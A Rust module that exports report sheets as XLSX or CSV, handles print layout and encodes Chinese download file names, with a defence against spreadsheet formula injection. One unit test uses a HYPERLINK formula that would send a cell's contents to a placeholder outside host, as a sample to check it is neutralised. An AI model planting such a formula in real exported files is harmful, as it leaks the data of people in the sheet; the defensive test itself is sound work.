//! Writers: a laid-out sheet as XLSX (merges and styles of the paper form) or as CSV
//! (UTF-8 with a byte-order mark, so Excel opens the Chinese correctly), and the
//! `Content-Disposition` that offers the Chinese file name.

use super::sheet::{Cell, Sheet, Style};
use rust_xlsxwriter::{Color, Format, FormatAlign, FormatBorder, Workbook, XlsxError};
use std::collections::{HashMap, HashSet};

pub const XLSX_CONTENT_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
pub const CSV_CONTENT_TYPE: &str = "text/csv; charset=utf-8";
const BOM: &[u8] = b"\xEF\xBB\xBF";

fn format_of(style: Style, number: bool) -> Format {
    let bordered = Format::new().set_border(FormatBorder::Thin).set_align(FormatAlign::VerticalCenter);
    let format = match style {
        Style::Title => Format::new()
            .set_bold()
            .set_font_size(16)
            .set_align(FormatAlign::Center)
            .set_align(FormatAlign::VerticalCenter),
        Style::Meta => Format::new(),
        Style::Note => Format::new().set_text_wrap().set_align(FormatAlign::Top),
        Style::Header => bordered
            .set_bold()
            .set_text_wrap()
            .set_align(FormatAlign::Center)
            .set_background_color(Color::RGB(0xDDEBF7)),
        Style::Label => bordered.set_bold().set_text_wrap().set_background_color(Color::RGB(0xF2F2F2)),
        Style::Section => bordered.set_bold().set_background_color(Color::RGB(0xDDEBF7)),
        Style::Total => bordered.set_bold(),
        Style::Data => bordered.set_text_wrap(),
    };
    if number { format.set_num_format("0") } else { format }
}

/// The sheet as an XLSX workbook of one worksheet.
pub fn xlsx(sheet: &Sheet) -> Result<Vec<u8>, XlsxError> {
    let mut workbook = Workbook::new();
    let worksheet = workbook.add_worksheet();
    worksheet.set_name(&sheet.name)?;
    for (col, width) in sheet.column_widths.iter().enumerate() {
        worksheet.set_column_width(col as u16, *width)?;
    }
    let mut formats: HashMap<(Style, bool), Format> = HashMap::new();
    let mut format =
        |style: Style, number: bool| formats.entry((style, number)).or_insert_with(|| format_of(style, number)).clone();
    let yuan = |style: Style| format_of(style, true).set_num_format("0.00");

    let mut covered = HashSet::new();
    for m in &sheet.merges {
        let (cell, style) = &sheet.rows[m.row][m.col];
        worksheet.merge_range(
            m.row as u32,
            m.col as u16,
            m.last_row as u32,
            m.last_col as u16,
            &cell.display(),
            &format(*style, false),
        )?;
        for row in m.row..=m.last_row {
            for col in m.col..=m.last_col {
                covered.insert((row, col));
            }
        }
    }
    let total_chars: f64 = sheet.column_widths.iter().sum::<f64>().max(1.0);
    for (r, cells) in sheet.rows.iter().enumerate() {
        for (c, (cell, style)) in cells.iter().enumerate() {
            if covered.contains(&(r, c)) {
                continue;
            }
            let (row, col) = (r as u32, c as u16);
            match cell {
                Cell::Empty if matches!(style, Style::Meta | Style::Note | Style::Title) => {}
                Cell::Empty => {
                    worksheet.write_blank(row, col, &format(*style, false))?;
                }
                Cell::Text(text) => {
                    worksheet.write_string_with_format(row, col, text, &format(*style, false))?;
                }
                Cell::Int(n) => {
                    worksheet.write_number_with_format(row, col, *n as f64, &format(*style, true))?;
                }
                Cell::Yuan(fen) => {
                    worksheet.write_number_with_format(row, col, *fen as f64 / 100.0, &yuan(*style))?;
                }
            }
        }
        // A long note across merged cells does not grow its row by itself.
        if let Some((Cell::Text(text), Style::Note)) = cells.first() {
            let lines = (text.chars().count() as f64 * 2.0 / total_chars).ceil().max(1.0);
            worksheet.set_row_height(r as u32, 15.0 * lines)?;
        }
        if let Some((_, Style::Title)) = cells.first() {
            worksheet.set_row_height(r as u32, 28.0)?;
        }
    }
    if let Some((row, col)) = sheet.freeze {
        worksheet.set_freeze_panes(row as u32, col as u16)?;
    }
    print_setup(worksheet, sheet)?;
    workbook.save_to_buffer()
}

/// A4 paper code of the XLSX page setup.
const A4: u8 = 9;

/// Printable width of A4 in pixels at 96 dpi, less the default margins (0.7 inch a
/// side): 8.27 − 1.4 inches upright, 11.69 − 1.4 lying down.
fn printable_pixels(landscape: bool) -> f64 {
    (if landscape { 11.69 - 1.4 } else { 8.27 - 1.4 }) * 96.0
}

/// Paper the offices print on: A4, the header rows again on every page, as wide as the
/// page. Excel and WPS ignore manual page breaks under "fit to page", so a sheet with
/// page breaks (the 对照表, a household a page) is scaled to the page width instead.
fn print_setup(worksheet: &mut rust_xlsxwriter::Worksheet, sheet: &Sheet) -> Result<(), XlsxError> {
    worksheet.set_paper_size(A4);
    if sheet.landscape {
        worksheet.set_landscape();
    }
    worksheet.set_print_center_horizontally(true);
    if let Some((first, last)) = sheet.repeat_rows {
        worksheet.set_repeat_rows(first as u32, last as u32)?;
    }
    if sheet.page_breaks.is_empty() {
        worksheet.set_print_fit_to_pages(1, 0);
    } else {
        // A column of width w characters is about 7w + 5 pixels wide.
        let pixels: f64 = sheet.column_widths.iter().map(|w| w * 7.0 + 5.0).sum::<f64>().max(1.0);
        let scale = (printable_pixels(sheet.landscape) / pixels * 100.0).floor().clamp(10.0, 100.0);
        worksheet.set_print_scale(scale as u16);
        let breaks: Vec<u32> = sheet.page_breaks.iter().map(|r| *r as u32).collect();
        worksheet.set_page_breaks(&breaks)?;
    }
    Ok(())
}

/// A text cell as CSV carries it: one that a spreadsheet would take for a formula
/// (`=`, `+`, `-`, `@`, a tab or a carriage return first) gets a leading `'`, so Excel
/// shows it as text (M1: names and addresses come from phones). Numbers stay numbers.
fn csv_cell(cell: &Cell) -> String {
    match cell {
        Cell::Text(text) if text.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{text}"),
        other => other.display(),
    }
}

/// The sheet as CSV: UTF-8 with a byte-order mark, one line per row, merged cells
/// empty but for their first.
pub fn csv(sheet: &Sheet) -> Result<Vec<u8>, csv::Error> {
    let mut out = BOM.to_vec();
    {
        let mut writer = csv::WriterBuilder::new().flexible(true).from_writer(&mut out);
        for row in &sheet.rows {
            writer.write_record(row.iter().map(|(cell, _)| csv_cell(cell)))?;
        }
        writer.flush()?;
    }
    Ok(out)
}

/// RFC 5987 `attr-char`s pass as they are; every other byte is percent-encoded.
fn rfc5987(value: &str) -> String {
    let mut out = String::with_capacity(value.len() * 3);
    for b in value.bytes() {
        if b.is_ascii_alphanumeric() || b"!#$&+-.^_`|~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// `attachment` with an ASCII `filename` and the real (Chinese) one in `filename*`.
pub fn content_disposition(file_name: &str, ascii_fallback: &str) -> String {
    let fallback: String =
        ascii_fallback.chars().map(|c| if c.is_ascii_graphic() && c != '"' && c != '\\' { c } else { '_' }).collect();
    format!("attachment; filename=\"{fallback}\"; filename*=UTF-8''{}", rfc5987(file_name))
}

#[cfg(test)]
mod tests {
    use super::super::sheet::layout;
    use super::*;

    #[test]
    fn csv_starts_with_a_bom_and_keeps_the_chinese() {
        let sheet = layout(&super::super::sheet::tests::report());
        let bytes = csv(&sheet).expect("csv");
        assert!(bytes.starts_with(BOM));
        let text = String::from_utf8(bytes[3..].to_vec()).expect("utf-8");
        assert!(text.starts_with("贫困人口动态调整情况统计表"));
        assert!(text.contains("地区,2025年底贫困人口,动态调整情况"));
    }

    #[test]
    fn csv_text_that_would_be_a_formula_is_quoted_and_numbers_are_not() {
        let sheet = Sheet {
            rows: vec![vec![
                (Cell::Text("=HYPERLINK(\"http://x.example/?\"&A1,\"张三\")".into()), Style::Data),
                (Cell::Text("+86".into()), Style::Data),
                (Cell::Text("-1".into()), Style::Data),
                (Cell::Text("@SUM(A1)".into()), Style::Data),
                (Cell::Text("\tx".into()), Style::Data),
                (Cell::Text("\rx".into()), Style::Data),
                (Cell::Text("张三".into()), Style::Data),
                (Cell::Int(-3), Style::Data),
                (Cell::Yuan(-150), Style::Data),
            ]],
            name: "t".into(),
            width: 9,
            merges: Vec::new(),
            column_widths: Vec::new(),
            freeze: None,
            repeat_rows: None,
            page_breaks: Vec::new(),
            landscape: false,
        };
        let bytes = csv(&sheet).expect("csv");
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
        let record = reader.records().next().expect("a row").expect("csv");
        let cells: Vec<&str> = record.iter().collect();
        assert_eq!(
            cells,
            vec![
                "'=HYPERLINK(\"http://x.example/?\"&A1,\"张三\")",
                "'+86",
                "'-1",
                "'@SUM(A1)",
                "'\tx",
                "'\rx",
                "张三",
                "-3",
                "-1.50"
            ]
        );
    }

    #[test]
    fn xlsx_is_a_zip_workbook() {
        let sheet = layout(&super::super::sheet::tests::report());
        let bytes = xlsx(&sheet).expect("xlsx");
        assert!(bytes.starts_with(b"PK"));
    }

    #[test]
    fn the_file_name_is_rfc5987_encoded() {
        let header = content_disposition("统计表_一号镇.xlsx", "dynamic_adjustment.xlsx");
        assert_eq!(
            header,
            "attachment; filename=\"dynamic_adjustment.xlsx\"; filename*=UTF-8''%E7%BB%9F%E8%AE%A1%E8%A1%A8_%E4%B8%80%E5%8F%B7%E9%95%87.xlsx"
        );
    }
}
